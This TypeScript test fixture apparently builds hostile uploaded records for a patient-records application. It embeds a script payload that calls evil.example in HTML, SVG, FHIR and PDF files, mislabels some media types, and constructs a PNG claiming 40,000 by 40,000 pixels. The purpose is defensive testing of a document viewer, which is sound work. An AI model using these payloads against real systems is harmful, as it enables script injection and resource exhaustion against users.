import { deflateSync } from "node:zlib";
import { recordOfBytes, type NewRecord } from "#lib/use-cases/add-records";

/** Sets a flag, calls home and opens a dialog: whatever of it happens, the test sees. */
const attack =
  "globalThis.pwned=1;try{top.pwned=1}catch{};fetch('https://evil.example/a');alert('pwned')";

/** What somebody may put into a record to have it run at the reader's. `says`: a word that is shown as text. */
export type HostileRecord = {
  readonly title: string;
  readonly mediaType: string;
  readonly bytes: Uint8Array;
};

const text = (content: string): Uint8Array => new TextEncoder().encode(content);

const html = `<!doctype html><script>${attack}</script><img src=x onerror="${attack}"><iframe src="javascript:${attack}"></iframe><meta http-equiv=refresh content="0;url=https://evil.example/b"><link rel=stylesheet href=https://evil.example/c.css>`;
const svg = `<svg xmlns="http://www.w3.org/2000/svg" onload="${attack}"><script>${attack}</script><image href="https://evil.example/d.png"/></svg>`;
const fhir = JSON.stringify({
  resourceType: "DocumentReference",
  status: "current",
  text: { status: "generated", div: `<div xmlns="http://www.w3.org/1999/xhtml">${html}</div>` },
  content: [{ attachment: { url: `javascript:${attack}`, title: html } }],
});

/** One of each kind, some of them under a media type that is a lie. */
export const hostileRecords: readonly HostileRecord[] = [
  { title: "HTML as itself", mediaType: "text/html", bytes: text(html) },
  { title: "HTML as a picture", mediaType: "image/png", bytes: text(html) },
  { title: "HTML as a PDF", mediaType: "application/pdf", bytes: text(html) },
  { title: "SVG as itself", mediaType: "image/svg+xml", bytes: text(svg) },
  { title: "FHIR with a script", mediaType: "application/fhir+json", bytes: text(fhir) },
  { title: "PDF with a script", mediaType: "application/pdf", bytes: scriptedPdf() },
  { title: "Picture of a billion pixels", mediaType: "image/png", bytes: hugePng() },
];

/** As a record among the patient's documents. */
export const recordOfHostile = ({ title, mediaType, bytes }: HostileRecord): NewRecord =>
  recordOfBytes(11, { title, mediaType, date: "2026-03-01", codes: [], note: "" }, bytes);

/** One page that says HOSTILE, with scripts and addresses wherever a PDF can hold one. */
function scriptedPdf(): Uint8Array {
  const script = `/S /JavaScript /JS (${attack.replace(/[()\\]/g, "\\$&")})`;
  const stream = "BT /F1 40 Tf 20 100 Td (HOSTILE) Tj ET";
  const objects = [
    `<< /Type /Catalog /Pages 2 0 R /OpenAction << ${script} >> /AA << /WC << ${script} >> >> /Names << /JavaScript << /Names [(a) << ${script} >>] >> >> >>`,
    "<< /Type /Pages /Kids [3 0 R] /Count 1 >>",
    `<< /Type /Page /Parent 2 0 R /MediaBox [0 0 300 200] /Contents 4 0 R /Resources << /Font << /F1 5 0 R >> >> /AA << /O << ${script} >> >> /Annots [<< /Type /Annot /Subtype /Link /Rect [0 0 300 200] /A << /S /URI /URI (https://evil.example/e) >> >>] >>`,
    `<< /Length ${stream.length} >>\nstream\n${stream}\nendstream`,
    "<< /Type /Font /Subtype /Type1 /BaseFont /Helvetica >>",
  ];
  let body = "%PDF-1.7\n";
  const offsets = objects.map((object, index) => {
    const offset = body.length;
    body += `${index + 1} 0 obj\n${object}\nendobj\n`;
    return offset;
  });
  const rows = offsets.map((offset) => `${String(offset).padStart(10, "0")} 00000 n \n`).join("");
  const size = objects.length + 1;
  return text(
    `${body}xref\n0 ${size}\n0000000000 65535 f \n${rows}trailer\n<< /Size ${size} /Root 1 0 R >>\nstartxref\n${body.length}\n%%EOF\n`,
  );
}

/** A few hundred bytes that say they are 40,000 by 40,000 pixels. */
function hugePng(): Uint8Array {
  const header = Buffer.alloc(25);
  header.writeUInt32BE(13, 0);
  header.write("IHDR", 4, "latin1");
  header.writeUInt32BE(40_000, 8);
  header.writeUInt32BE(40_000, 12);
  header.set([1, 0, 0, 0, 0], 16);
  const data = deflateSync(Buffer.alloc(10_000));
  const length = Buffer.alloc(4);
  length.writeUInt32BE(data.length);
  const signature = Buffer.from("\x89PNG\r\n\x1a\n", "latin1");
  return Buffer.concat([signature, header, length, Buffer.from("IDAT"), data, Buffer.alloc(4)]);
}
